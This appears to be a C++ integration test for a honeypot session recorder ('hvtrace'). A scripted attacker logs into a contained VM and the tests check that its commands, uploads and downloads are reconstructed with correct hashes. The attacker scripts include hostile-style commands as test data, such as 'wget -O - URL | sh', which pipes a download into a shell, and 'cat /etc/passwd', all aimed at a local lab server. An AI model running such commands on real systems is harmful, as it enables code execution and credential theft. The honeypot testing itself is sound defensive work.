// The honeypot lab end to end: the default guest, contained, with one forward (10.0.2.100:80 -> a
// file server on our loopback), watched by `hvtrace session`, while scripts/attacker logs in with
// OpenSSH's ssh -tt through a real pseudo-terminal and types at human speed. What the attacker did
// (a wrong password, a typo fixed with backspace, a pipeline, KiBs of output, a C program built
// with tcc, an scp upload over SFTP, a wget download) must come back in events.jsonl with the right
// SHA-256s, in the transcript, and in session.cast as `asciinema cat` replays it; tab completion,
// history from before the session and `wget -O - URL | sh` read as the shell ran them; two
// concurrent logins stay apart; a client killed mid-session gives a closed session.
#include "vm/file_server.hpp"
#include "vm/process.hpp"
#include "vm/vm.hpp"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fmt/core.h>

#include <fstream>
#include <future>
#include <optional>
#include <random>
#include <regex>
#include <set>
#include <thread>

namespace hvtrace::vm {
namespace {

using namespace std::chrono_literals;
using nlohmann::json;

const std::string kVm = "itest-sesslab";
const fs::path kAttacker = fs::path(HVTRACE_SOURCE_DIR) / "scripts" / "attacker";

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

std::string sha256_of(const fs::path& p) {
  auto r = run_process({"sha256sum", p.string()}, 30s);
  return r && r->out.size() >= 64 ? r->out.substr(0, 64) : "";
}

ProcessResult cli(const std::vector<std::string>& args, std::chrono::seconds timeout = 300s) {
  std::vector<std::string> argv = {HVTRACE_BIN};
  argv.insert(argv.end(), args.begin(), args.end());
  auto r = run_process(argv, timeout);
  if (!r) return ProcessResult{-1, "", r.error().message};
  return std::move(r).value();
}

bool wait_until(const std::function<bool()>& pred, std::chrono::seconds limit) {
  const auto end = std::chrono::steady_clock::now() + limit;
  while (std::chrono::steady_clock::now() < end) {
    if (pred()) return true;
    std::this_thread::sleep_for(200ms);
  }
  return pred();
}

// Text as a terminal shows it, for comparing screens: escape sequences and carriage returns
// removed, backspace-erase sequences applied per line.
std::string screen_text(const std::string& raw) {
  static const std::regex esc("\x1b\\[[0-9;?]*[A-Za-z]|\x1b\\][^\x07]*\x07|\x1b[()][A-Za-z0-9]|\r");
  const std::string plain = std::regex_replace(raw, esc, "");
  std::string out;
  for (char c : plain) {
    if (c == '\b') {
      if (!out.empty() && out.back() != '\n') out.pop_back();
    } else {
      out += c;
    }
  }
  // "\b \b" leaves the erased cell as a space that was then backed over: collapse trailing spaces.
  std::string tidy, line;
  for (char c : out + "\n") {
    if (c == '\n') {
      while (!line.empty() && line.back() == ' ') line.pop_back();
      tidy += line + "\n";
      line.clear();
    } else {
      line += c;
    }
  }
  return tidy;
}

std::vector<std::string> lines_of(const std::string& s) {
  std::vector<std::string> v;
  std::string cur;
  for (char c : s) {
    if (c == '\n') {
      v.push_back(cur);
      cur.clear();
    } else {
      cur += c;
    }
  }
  if (!cur.empty()) v.push_back(cur);
  return v;
}

std::vector<json> events_of(const fs::path& session) {
  std::vector<json> v;
  std::ifstream in(session / "events.jsonl");
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    try {
      v.push_back(json::parse(line));
    } catch (const std::exception& e) {
      ADD_FAILURE() << "not JSON: " << line << " (" << e.what() << ")";
    }
  }
  return v;
}

std::vector<json> with_id(const std::vector<json>& events, const std::string& id) {
  std::vector<json> v;
  for (const auto& e : events)
    if (e.value("eventid", "") == id) v.push_back(e);
  return v;
}

// The `input` of every event with this id, in order.
std::vector<std::string> inputs_of(const std::vector<json>& events, const std::string& id) {
  std::vector<std::string> v;
  for (const auto& e : with_id(events, id)) v.push_back(e.value("input", ""));
  return v;
}

std::vector<fs::path> sessions_in(const fs::path& dir) {
  std::vector<fs::path> v;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(dir, ec))
    if (e.is_directory() && std::regex_match(e.path().filename().string(), std::regex("[0-9a-f]{12}"))) v.push_back(e.path());
  return v;
}

// `hvtrace session --vm kVm -o DIR` in the background.
class Watcher {
 public:
  explicit Watcher(const fs::path& dir) : log_(dir.string() + ".log") {
    pid_ = fork();
    if (pid_ == 0) {
      const int fd = open(log_.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      dup2(fd, 1);
      dup2(fd, 2);
      execl(HVTRACE_BIN, HVTRACE_BIN, "session", "--vm", kVm.c_str(), "-o", dir.c_str(), static_cast<char*>(nullptr));
      _exit(127);
    }
  }
  ~Watcher() { stop(); }
  bool ready() {
    return wait_until([&] { return slurp(log_).find("hvtrace: watching ") != std::string::npos || exited(); }, 180s) &&
           !exited();
  }
  bool exited() {
    if (!reaped_ && waitpid(pid_, &status_, WNOHANG) == pid_) reaped_ = true;
    return reaped_;
  }
  // SIGINT: flush and exit 0.
  int stop() {
    if (pid_ <= 0) return -1;
    if (!exited()) {
      kill(pid_, SIGINT);
      if (!wait_until([&] { return exited(); }, 60s)) {
        kill(pid_, SIGKILL);
        waitpid(pid_, &status_, 0);
        reaped_ = true;
      }
    }
    pid_ = -1;
    return status_;
  }
  std::string log() const { return slurp(log_); }

 private:
  std::string log_;
  pid_t pid_ = -1;
  bool reaped_ = false;
  int status_ = 0;
};

class SessionLab : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    char tmpl[] = "/tmp/hvtrace-sesslab-XXXXXX";
    work_ = mkdtemp(tmpl);
    // The tool the guest downloads, and the file the attacker uploads: random bytes.
    std::mt19937 rng(9);
    fs::create_directories(work_ / "www");
    for (const auto& [file, size] : {std::pair{"www/tool.bin", 40000}, std::pair{"upload.bin", 23456}}) {
      std::string data(static_cast<std::size_t>(size), '\0');
      for (auto& ch : data) ch = static_cast<char>(rng());
      std::ofstream(work_ / file, std::ios::binary) << data;
    }
    // The script the attacker pipes into sh (wget -O - URL | sh): never a file in the guest.
    std::ofstream(work_ / "www" / "s.sh", std::ios::binary) << "#!/bin/sh\necho piped-script-ran-$((6 * 7))\n";
    auto srv = FileServer::start(work_ / "www");
    ASSERT_TRUE(srv.ok()) << srv.error().message;
    server_ = std::move(srv).value().release();
    auto up = cli({"vm", "up", "--name", kVm, "--monitor", "--guestfwd",
                   fmt::format("tcp:10.0.2.100:80-127.0.0.1:{}", server_->port())});
    ASSERT_EQ(up.exit_code, 0) << up.out << up.err;
    auto rec = find_vm(kVm);
    ASSERT_TRUE(rec.ok()) << rec.error().message;
    port_ = rec->ssh_port;
    up_ = true;
  }
  static void TearDownTestSuite() {
    if (up_) {
      EXPECT_EQ(cli({"vm", "down", "--name", kVm}).exit_code, 0);
    }
    delete server_;
    server_ = nullptr;
    if (!work_.empty() && std::getenv("HVTRACE_KEEP") == nullptr) fs::remove_all(work_);
  }
  void SetUp() override {
    if (!up_) GTEST_SKIP() << "the guest did not boot";
  }

  // Run the attacker on `script` (text); returns its result; the client's screen goes to `screen`.
  static ProcessResult attack(const std::string& name, const std::string& script, const fs::path& screen,
                              const std::string& delay = "5-30") {
    const fs::path file = work_ / (name + ".session");
    std::ofstream(file) << script;
    auto r = run_process({"python3", kAttacker.string(), "--port", std::to_string(port_), "--delay", delay, "--seed",
                          "1", "--screen", screen.string(), "-q", file.string()},
                         600s);
    if (!r) return ProcessResult{-1, "", r.error().message};
    return std::move(r).value();
  }

  // Once the attacker is done: 2 s for the last events to arrive, the watcher stopped (SIGINT,
  // exit 0), the session folders it wrote.
  static std::vector<fs::path> stop_and_list(Watcher& w, const fs::path& out) {
    std::this_thread::sleep_for(2s);
    EXPECT_EQ(w.stop(), 0) << w.log();
    return sessions_in(out);
  }

  // `attack` one session of `script` while `w` watches into `out`; its folder (fails the test
  // when the attacker failed or the watcher did not write exactly one session).
  static std::optional<fs::path> one_session(Watcher& w, const fs::path& out, const std::string& name, const std::string& script) {
    const auto a = attack(name, script, work_ / (name + ".screen"));
    EXPECT_EQ(a.exit_code, 0) << a.err;
    if (a.exit_code != 0) return std::nullopt;
    const auto sessions = stop_and_list(w, out);
    EXPECT_EQ(sessions.size(), 1u) << w.log();
    if (sessions.size() != 1) return std::nullopt;
    return sessions[0];
  }

  static fs::path work_;
  static FileServer* server_;
  static std::uint16_t port_;
  static bool up_;
};
fs::path SessionLab::work_;
FileServer* SessionLab::server_ = nullptr;
std::uint16_t SessionLab::port_ = 0;
bool SessionLab::up_ = false;

TEST_F(SessionLab, ScriptedAttackerSessionIsReconstructedFromOutside) {
  const fs::path out = work_ / "full";
  Watcher w(out);
  ASSERT_TRUE(w.ready()) << w.log();
  const std::string upload_sha = sha256_of(work_ / "upload.bin");
  const std::string tool_sha = sha256_of(work_ / "www" / "tool.bin");
  ASSERT_EQ(upload_sha.size(), 64u);
  const std::string script =
      "!wrong-password not-the-password-42\n"
      "!keys ehco<BS><BS><BS>cho typo-fixed-marker<CR>\n"
      "uname -r | tr a-z A-Z\n"
      "ls -l /usr/include /usr/include/linux | head -150\n"
      "cd /tmp\n"
      "echo 'written by the attacker' > note.txt\n"
      "cat note.txt\n"
      "cat > hello.c <<'EOF'\n"
      "!line #include <stdio.h>\n"
      "int main(void) { printf(\"hello from tcc %d\\n\", 6 * 7); return 0; }\n"
      "EOF\n"
      "tcc -o hello hello.c && ./hello\n"
      "!upload " + (work_ / "upload.bin").string() + " /tmp/up.bin\n"
      "sha256sum /tmp/up.bin\n"
      "wget -q -O tool.bin http://10.0.2.100/tool.bin\n"
      "sha256sum tool.bin\n"
      "exit\n";
  const auto a = attack("full", script, work_ / "full.screen");
  ASSERT_EQ(a.exit_code, 0) << a.err;
  // Two SSH connections, two sessions (as in Cowrie): the interactive one, and scp's own login
  // whose sftp-server writes the upload.
  const auto sessions = stop_and_list(w, out);
  ASSERT_EQ(sessions.size(), 2u) << w.log();
  fs::path s;
  std::vector<json> all;
  for (const auto& p : sessions) {
    const auto e = events_of(p);
    all.insert(all.end(), e.begin(), e.end());
    for (const auto& c : with_id(e, "cowrie.command.input"))
      if (c.value("input", "") == "echo typo-fixed-marker") s = p;
  }
  ASSERT_FALSE(s.empty()) << "no session holds the typed commands:\n" << w.log();
  const auto ev = events_of(s);

  // Login: the wrong password and the good one, both recorded.
  const auto failed = with_id(ev, "cowrie.login.failed");
  EXPECT_FALSE(failed.empty()) << "the wrong password is not recorded";
  if (!failed.empty()) {
    EXPECT_EQ(failed[0].value("password", ""), "not-the-password-42");
    EXPECT_EQ(failed[0].value("username", ""), "root");
  }
  const auto ok = with_id(ev, "cowrie.login.success");
  EXPECT_EQ(ok.size(), 1u);
  if (!ok.empty()) {
    EXPECT_EQ(ok[0].value("username", ""), "root");
    EXPECT_FALSE(ok[0].value("password", "").empty()) << "the good password is not recorded";
  }

  // Every command as finally entered (the typo fixed).
  const auto inputs = inputs_of(ev, "cowrie.command.input");
  for (const std::string& want : std::vector<std::string>{"echo typo-fixed-marker", "uname -r | tr a-z A-Z", "cd /tmp", "cat note.txt",
                                 "tcc -o hello hello.c && ./hello", "sha256sum /tmp/up.bin",
                                 "wget -q -O tool.bin http://10.0.2.100/tool.bin", "exit"}) {
    EXPECT_NE(std::find(inputs.begin(), inputs.end(), want), inputs.end()) << want;
  }
  EXPECT_EQ(std::find(inputs.begin(), inputs.end(), "ehco typo-fixed-marker"), inputs.end());
  // The here-document's lines, read by the shell at its "> " prompt, continue `cat > hello.c <<'EOF'`.
  EXPECT_NE(std::find(inputs.begin(), inputs.end(), "cat > hello.c <<'EOF'"), inputs.end());
  std::vector<std::string> continued;
  for (const auto& e : with_id(ev, "hvtrace.command.continuation")) continued.push_back(e.value("input", ""));
  const std::vector<std::string> body = {"#include <stdio.h>", "int main(void) { printf(\"hello from tcc %d\\n\", 6 * 7); return 0; }",
                                         "EOF"};
  EXPECT_EQ(continued, body);
  for (const auto& line : body) EXPECT_EQ(std::find(inputs.begin(), inputs.end(), line), inputs.end()) << line;

  // The upload (scp over SFTP: sftp-server writes it) and the download, with their SHA-256.
  const auto up = with_id(all, "cowrie.session.file_upload");
  ASSERT_FALSE(up.empty()) << w.log();
  EXPECT_EQ(up[0].value("shasum", ""), upload_sha);
  EXPECT_EQ(up[0].value("destfile", ""), "/tmp/up.bin");
  const auto down = with_id(ev, "cowrie.session.file_download");
  ASSERT_FALSE(down.empty());
  EXPECT_EQ(down[0].value("shasum", ""), tool_sha);
  EXPECT_EQ(down[0].value("url", ""), "http://10.0.2.100/tool.bin");
  const auto closed = with_id(ev, "cowrie.session.closed");
  ASSERT_EQ(closed.size(), 1u);

  // The transcript: commands and their key output lines.
  const std::string t = slurp(s / "transcript.txt");
  for (const std::string& want : std::vector<std::string>{"echo typo-fixed-marker", "typo-fixed-marker", "hello from tcc 42",
                                 "written by the attacker", upload_sha + "  /tmp/up.bin", tool_sha + "  tool.bin"})
    EXPECT_NE(t.find(want), std::string::npos) << want << "\n" << t.substr(0, 4000);

  // asciinema replays the screen the client saw: every line of the client's terminal from the
  // first shell prompt on, in the same order (the password prompts are the client's own).
  // (asciinema cat opens /dev/tty: it runs under script(1)'s pseudo-terminal)
  auto cat = run_process({"script", "-qec", "asciinema cat " + shell_quote((s / "session.cast").string()), "/dev/null"}, 60s);
  ASSERT_TRUE(cat.ok()) << cat.error().message;
  ASSERT_EQ(cat->exit_code, 0) << cat->err;
  const std::string client = screen_text(slurp(work_ / "full.screen"));
  const std::string replay = screen_text(cat->out);
  const auto first_prompt = client.find("root@hvtrace-guest:");
  ASSERT_NE(first_prompt, std::string::npos) << client;
  const auto want_lines = lines_of(client.substr(first_prompt));
  const auto got_lines = lines_of(replay);
  std::size_t at = 0, matched = 0;
  for (const auto& l : want_lines) {
    if (l.empty()) continue;
    const auto it = std::find(got_lines.begin() + static_cast<std::ptrdiff_t>(at), got_lines.end(), l);
    if (it == got_lines.end()) {
      ADD_FAILURE() << "client line not replayed in order: '" << l << "'";
      break;
    }
    at = static_cast<std::size_t>(it - got_lines.begin()) + 1;
    ++matched;
  }
  EXPECT_GT(matched, 150u);  // the ls output alone is 150 lines
}

// What real attackers type that the keys alone do not show: tab completion (one match, a listing
// on the second TAB, then more keys), history recalled from before the session (bash's own
// ~/.bash_history, read with history -r) with Up and with Ctrl-R, and a download piped into sh
// that never touches a file. Each command must read as bash ran it; the piped download must carry
// the URL and the served script's SHA-256. A cp (busybox may copy with sendfile) gives either the
// right SHA-256 or content_captured: false, never a wrong hash.
TEST_F(SessionLab, TabCompletionHistoryAndPipedDownloadReadAsTheShellRanThem) {
  const fs::path out = work_ / "keys";
  Watcher w(out);
  ASSERT_TRUE(w.ready()) << w.log();
  const std::string script_sha = sha256_of(work_ / "www" / "s.sh");
  const std::string script =
      "mkdir -p /tmp/tc && touch /tmp/tc/alpha-one /tmp/tc/alpha-two && cd /tmp\n"
      "!keys cat /etc/pas<TAB><CR>\n"
      "!keys ls /tmp/tc/al<TAB><TAB>t<TAB><CR>\n"
      "echo 'echo from-old-history-77' >> ~/.bash_history\n"
      "history -r\n"
      "!keys <UP><CR>\n"
      "!keys <C-r>old-hist<CR>\n"
      "wget -O - http://10.0.2.100/s.sh | sh\n"
      "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd\n"
      "exit\n";
  const auto dir = one_session(w, out, "keys", script);
  ASSERT_TRUE(dir.has_value());
  const auto ev = events_of(*dir);
  const auto inputs = inputs_of(ev, "cowrie.command.input");
  const std::vector<std::string> want = {
      "mkdir -p /tmp/tc && touch /tmp/tc/alpha-one /tmp/tc/alpha-two && cd /tmp",
      "cat /etc/passwd",
      "ls /tmp/tc/alpha-two",
      "echo 'echo from-old-history-77' >> ~/.bash_history",
      "history -r",
      "echo from-old-history-77",
      "echo from-old-history-77",
      "wget -O - http://10.0.2.100/s.sh | sh",
      "cp /etc/passwd /tmp/pw-copy && sha256sum /etc/passwd",
      "exit"};
  EXPECT_EQ(inputs, want) << slurp(*dir / "transcript.txt");
  // What the shell ran, from its children's argv: the same lines.
  std::set<std::string> ran;
  for (const auto& e : with_id(ev, "hvtrace.process.exec")) {
    std::string line;
    for (const auto& arg : e.value("argv", json::array())) line += (line.empty() ? "" : " ") + arg.get<std::string>();
    ran.insert(line);
  }
  EXPECT_TRUE(ran.count("cat /etc/passwd")) << "cat's argv";
  EXPECT_TRUE(ran.count("ls /tmp/tc/alpha-two")) << "ls's argv";
  const std::string t = slurp(*dir / "transcript.txt");
  EXPECT_NE(t.find("$ cat /etc/passwd\nroot:x:0:0:"), std::string::npos) << t.substr(0, 3000);
  EXPECT_NE(t.find("piped-script-ran-42"), std::string::npos) << t.substr(0, 3000);

  const auto down = with_id(ev, "cowrie.session.file_download");
  ASSERT_EQ(down.size(), 1u) << w.log();
  EXPECT_EQ(down[0].value("url", ""), "http://10.0.2.100/s.sh");
  EXPECT_EQ(down[0].value("shasum", ""), script_sha);
  EXPECT_EQ(down[0].value("size", 0u), fs::file_size(work_ / "www" / "s.sh"));
  EXPECT_TRUE(down[0].value("pipe", false));
  EXPECT_EQ(down[0].value("reader", ""), "sh");
  ASSERT_TRUE(down[0].contains("outfile"));
  EXPECT_EQ(sha256_of(down[0].value("outfile", "")), script_sha);

  // cp: the right hash, or none (the bytes went through sendfile inside the kernel).
  std::smatch m;
  ASSERT_TRUE(std::regex_search(t, m, std::regex("([0-9a-f]{64})  /etc/passwd"))) << t.substr(0, 3000);
  bool copy_seen = false;
  for (const auto& e : with_id(ev, "hvtrace.file.write")) {
    if (e.value("path", "") != "/tmp/pw-copy") continue;
    copy_seen = true;
    if (e.contains("shasum")) EXPECT_EQ(e.value("shasum", ""), m[1].str()) << e.dump();
    else EXPECT_FALSE(e.value("content_captured", true)) << e.dump();
  }
  EXPECT_TRUE(copy_seen) << "cp's file";
}

// Lines typed into a running program are its input, not commands: text typed into `cat > file`,
// the answer to the shell's `read -p`; a line typed ahead while `sleep` runs is the command the
// shell runs next; a nested shell's lines are commands. A command stopped with Ctrl-C is shown
// killed by SIGINT.
TEST_F(SessionLab, LinesTypedIntoProgramsAreTheirInputAndCtrlCIsNamed) {
  const fs::path out = work_ / "stdin";
  Watcher w(out);
  ASSERT_TRUE(w.ready()) << w.log();
  const std::string script =
      "!keys cat > /tmp/typed.txt<CR>first typed line<CR>second typed line<CR><C-d>\n"
      "!expect [#$] $\n"
      "cat /tmp/typed.txt\n"
      "!keys read -p 'Name? ' WHO<CR>Mallory<CR>\n"
      "echo \"hi $WHO\"\n"
      "!keys sleep 2<CR>echo typed-ahead-42<CR>\n"
      "!expect typed-ahead-42\\r?\\n.*[#$] $\n"
      "!delay 400 400\n"   // the Ctrl-C comes once sleep runs, not while bash still reads the line
      "!keys sleep 30<CR><C-c>\n"
      "!expect [#$] $\n"
      "!delay 5 30\n"
      "!keys sh<CR>\n"
      "!expect [#$] $\n"
      "echo nested-$((6*7))\n"
      "!keys exit<CR>\n"
      "!expect [#$] $\n"
      "sleep 60 &\n"
      "exit\n";
  const auto dir = one_session(w, out, "stdin", script);
  ASSERT_TRUE(dir.has_value());
  const auto ev = events_of(*dir);
  const std::string t = slurp(*dir / "transcript.txt");
  const auto commands = inputs_of(ev, "cowrie.command.input");
  const auto typed = inputs_of(ev, "hvtrace.command.stdin");
  const std::vector<std::string> want_commands = {
      "cat > /tmp/typed.txt", "cat /tmp/typed.txt", "read -p 'Name? ' WHO", "echo \"hi $WHO\"", "sleep 2",
      "echo typed-ahead-42", "sleep 30", "sh", "echo nested-$((6*7))", "exit", "sleep 60 &", "exit"};
  EXPECT_EQ(commands, want_commands) << t;
  const std::vector<std::string> want_typed = {"first typed line", "second typed line", "Mallory", "echo typed-ahead-42"};
  EXPECT_EQ(typed, want_typed) << t;
  EXPECT_NE(t.find("$ cat /tmp/typed.txt\nfirst typed line\nsecond typed line\n[exit 0]"), std::string::npos) << t;
  EXPECT_NE(t.find("$ echo typed-ahead-42\ntyped-ahead-42\n"), std::string::npos) << t;
  EXPECT_NE(t.find("[killed by SIGINT]"), std::string::npos) << t;
  EXPECT_NE(t.find("nested-42"), std::string::npos) << t;
  // A background job: its exec (which it makes while the shell is already back at its prompt, and
  // after which `sleep` makes no call the session asks for) and, at logout, still running.
  const nlohmann::json* bg = nullptr;
  for (const auto& e : with_id(ev, "hvtrace.process.exec"))
    if (e.value("argv", json::array()) == json::array({"sleep", "60"})) bg = &e;
  ASSERT_NE(bg, nullptr) << "the background job's exec";
  const auto running = with_id(ev, "hvtrace.session.still_running");
  ASSERT_EQ(running.size(), 1u);
  EXPECT_EQ(running[0]["processes"][0].value("comm", ""), "sleep") << running[0].dump();
}

TEST_F(SessionLab, TwoConcurrentLoginsGiveTwoSessionsWithNoCrossedLines) {
  const fs::path out = work_ / "two";
  Watcher w(out);
  ASSERT_TRUE(w.ready()) << w.log();
  auto script = [](const std::string& tag) {
    std::string s;
    for (int i = 0; i < 6; ++i) s += fmt::format("echo {}-line-{}\n!sleep 0.3\n", tag, i);
    return s + "exit\n";
  };
  auto fa = std::async(std::launch::async, [&] { return attack("alpha", script("alpha"), work_ / "alpha.screen"); });
  auto fb = std::async(std::launch::async, [&] { return attack("beta", script("beta"), work_ / "beta.screen"); });
  const auto ra = fa.get(), rb = fb.get();
  ASSERT_EQ(ra.exit_code, 0) << ra.err;
  ASSERT_EQ(rb.exit_code, 0) << rb.err;
  const auto sessions = stop_and_list(w, out);
  ASSERT_EQ(sessions.size(), 2u) << w.log();
  std::set<std::string> tags;
  for (const auto& s : sessions) {
    const std::string t = slurp(s / "transcript.txt");
    const bool alpha = t.find("alpha-line-") != std::string::npos, beta = t.find("beta-line-") != std::string::npos;
    EXPECT_NE(alpha, beta) << "one session per client, no crossed lines:\n" << t;
    const std::string tag = alpha ? "alpha" : "beta";
    tags.insert(tag);
    for (int i = 0; i < 6; ++i) EXPECT_NE(t.find(fmt::format("{}-line-{}", tag, i)), std::string::npos) << t;
    EXPECT_EQ(with_id(events_of(s), "cowrie.session.closed").size(), 1u);
  }
  EXPECT_EQ(tags.size(), 2u);
}

TEST_F(SessionLab, ClientKilledMidSessionGivesAClosedSession) {
  const fs::path out = work_ / "killed";
  Watcher w(out);
  ASSERT_TRUE(w.ready()) << w.log();
  const auto a = attack("killed", "echo before-the-kill\n!kill\n", work_ / "killed.screen");
  ASSERT_EQ(a.exit_code, 0) << a.err;
  // The server notices the dropped connection and the session closes while hvtrace still watches
  // (not only at its own SIGINT flush).
  fs::path s;
  const bool closed = wait_until(
      [&] {
        const auto v = sessions_in(out);
        if (v.size() != 1) return false;
        s = v[0];
        return !with_id(events_of(s), "cowrie.session.closed").empty();
      },
      60s);
  EXPECT_TRUE(closed) << (s.empty() ? std::string("no session") : slurp(s / "events.jsonl"));
  EXPECT_EQ(w.stop(), 0) << w.log();
  ASSERT_FALSE(s.empty());
  EXPECT_NE(slurp(s / "transcript.txt").find("before-the-kill"), std::string::npos);
  const auto c = with_id(events_of(s), "cowrie.session.closed");
  ASSERT_EQ(c.size(), 1u);
  EXPECT_NE(c[0].value("ended", ""), "logout") << c[0].dump();
}

}  // namespace
}  // namespace hvtrace::vm
